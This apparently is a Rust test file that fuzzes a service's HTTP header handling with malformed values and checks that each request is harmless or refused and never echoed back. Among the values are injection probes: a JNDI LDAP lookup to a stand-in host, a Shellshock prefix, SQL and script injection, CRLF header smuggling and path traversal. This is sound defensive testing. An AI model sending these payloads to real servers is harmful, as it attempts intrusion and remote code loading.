//! Nonsense in headers: harmless or refused, and never reflected.

use engage_simulator::fixtures::ALVA;

use super::{
    Expected::{Harmless, Refused},
    MARK, Row, bare, cached, key,
};

/// Headers that the service evaluates, each of which gets all the nonsense.
const EVALUATED: [&str; 4] = [
    "Cache-Control",
    "If-None-Match",
    "Accept-Encoding",
    "X-Request-Id",
];

pub(super) fn rows() -> Vec<Row> {
    let mut rows = Vec::new();
    for name in EVALUATED {
        for value in nonsense() {
            rows.push(with(name, &value));
        }
    }
    for (name, value) in nonsense_for_one_header() {
        rows.push(with(name, value.as_bytes()));
    }
    for line in other_headers() {
        let request = bare(
            "GET",
            &format!("/customer?{}", cached()),
            &(key() + line + "\r\n"),
        );
        rows.push(Row::new(request, Harmless));
    }
    for value in [
        &b"a\0b"[..],
        b"\x01",
        b"\x1b[2J",
        b"\x7f",
        b"a\rX-Zq9mark: 1",
    ] {
        for name in EVALUATED {
            let row = with(name, value);
            rows.push(Row {
                expected: Refused,
                ..row
            });
        }
    }
    rows
}

/// A request for the cached customer with this header.
fn with(name: &str, value: &[u8]) -> Row {
    let request = bare("GET", &format!("/customer?{}", cached()), &key());
    let head = request.strip_suffix("\r\n").expect("an end");
    let line = [name.as_bytes(), b": ", value, b"\r\n\r\n"].concat();
    Row::new([head.as_bytes(), &*line].concat(), Harmless)
}

fn nonsense() -> Vec<Vec<u8>> {
    let mut values: Vec<Vec<u8>> = [
        "",
        ",",
        ";",
        "=",
        "\"",
        "\"zq9mark",
        "\\\"zq9mark\\",
        "*zq9mark",
        "*,*",
        "\t,\t",
        "%00zq9mark",
        "%0d%0aSet-Cookie:zq9mark=1",
        "<script>zq9mark</script>",
        "${jndi:ldap://zq9mark.example.com/a}",
        "{{7*7}}zq9mark",
        "../../zq9mark",
        "' OR 1=1 -- zq9mark",
        "() { :;}; zq9mark",
        "\u{e9}zq9mark",
        "zq9mark\u{202e}",
        "zq9mark;zq9mark=\"zq9mark",
        "q=1, q=2;q=3",
    ]
    .map(|text| text.as_bytes().to_vec())
    .to_vec();
    values.extend([
        b"\xff\xfezq9mark".to_vec(),
        b"\x80".to_vec(),
        b"zq9mark".repeat(1100),
        b",".repeat(7000),
        b"\"a\",".repeat(2000),
        b"W/".repeat(3000),
    ]);
    values
}

/// Nonsense in the syntax of one header.
fn nonsense_for_one_header() -> Vec<(&'static str, String)> {
    let mut values = Vec::new();
    for value in [
        "max-age=18446744073709551615",
        "max-age=18446744073709551616",
        "max-age=-1",
        "max-age=NaN",
        "max-age=1e9",
        "max-age=0x10",
        "max-age=\"99\"",
        "max-age==5",
        "max-age=\u{665}",
        "max-age",
        "max-age=5;max-age=6",
        "stale-if-error=-1",
        "stale-if-error=99999999999999999999",
        "max-stale=zq9mark",
        "min-fresh=-5",
        "no-store",
        "n\u{43e}-cache",
        "no\u{2010}cache",
        "only-if-cached=zq9mark",
        "private, public, must-revalidate, zq9mark",
    ] {
        values.push(("Cache-Control", value.to_owned()));
    }
    for value in [
        "*",
        "W/*",
        "W/\"zq9mark\"",
        "w/\"zq9mark\"",
        "W/W/\"a\"",
        "zq9mark\"",
        "\"\"",
        "\"a\"\"b\"",
        "\"a\" \"b\"",
        "\"\\\"\"",
        "'a'",
        "\"*\"",
        "*, \"a\"",
    ] {
        values.push(("If-None-Match", value.to_owned()));
    }
    for value in [
        "gzip;q=nan",
        "gzip;q=inf",
        "gzip;q=-1",
        "gzip;q=1e400",
        "gzip;q=",
        "gzip;q=q",
        "gzip;;;",
        "gzip;zq9mark=1;q=0",
        "*;q=0",
        "identity;q=0",
        "identity;q=0, *;q=0",
        "GZIP",
        "x-gzip",
        "gzip, gzip;q=0",
        "br;q=1, zq9mark",
        "gz\u{131}p",
        "gzip\u{a0}",
        "gzip;q=0.0000000000001",
    ] {
        values.push(("Accept-Encoding", value.to_owned()));
    }
    for value in [
        "zq9mark zq9mark",
        "zq9mark,zq9mark",
        "zq9mark\"",
        "zq9mark/1",
        "zq9mark:1",
        "zq9mark\u{430}",
        "{zq9mark}",
        "zq9mark=",
        "zq9mark+1",
        "zq9mark@1",
        "zq9mark\\n",
        "zq9mark%0A",
    ] {
        values.push(("X-Request-Id", value.to_owned()));
    }
    values.push(("X-Request-Id", MARK.repeat(10)));
    values.push(("If-None-Match", format!("\"{}\"", ALVA.id)));
    values
}

/// Other headers. The service evaluates some of them, such as `If-Match`, and ignores most.
fn other_headers() -> Vec<&'static str> {
    vec![
        "Range: bytes=0-",
        "Range: bytes=0-0,1-1,2-2,3-3,4-4,5-5,6-6,7-7",
        "Range: zq9mark=1-",
        "If-Range: \"zq9mark\"",
        "If-Match: \"zq9mark\"",
        "If-Modified-Since: zq9mark",
        "If-Unmodified-Since: Thu, 01 Jan 1970 00:00:00 GMT",
        "Expect: zq9mark",
        "Upgrade: h2c",
        "Upgrade: websocket",
        "HTTP2-Settings: zq9mark",
        "TE: trailers, zq9mark",
        "Trailer: Host",
        "Connection: X-Api-Key",
        "Connection: zq9mark",
        "Keep-Alive: timeout=-1, max=zq9mark",
        "Proxy-Connection: keep-alive",
        "Proxy: http://zq9mark.example.com",
        "X-Forwarded-For: 127.0.0.1, zq9mark",
        "X-Forwarded-Host: zq9mark.example.com",
        "X-Forwarded-Proto: zq9mark",
        "Forwarded: for=127.0.0.1;host=zq9mark",
        "Origin: https://zq9mark.example.com",
        "Origin: null",
        "Access-Control-Request-Method: DELETE",
        "Cookie: zq9mark=1",
        "Accept: zq9mark",
        "Accept: text/html;q=0, application/json;q=0",
        "Accept-Charset: utf-16",
        "Accept-Language: zq9mark",
        "User-Agent: ${jndi:ldap://zq9mark.example.com/a}",
        "Referer: https://zq9mark.example.com",
        "traceparent: 00-zq9mark-zq9mark-01",
        "Content-Length: 0",
        "Content-Type: zq9mark",
        "Max-Forwards: -1",
        "Via: zq9mark",
        "Pragma: zq9mark",
        "__proto__: zq9mark",
    ]
}
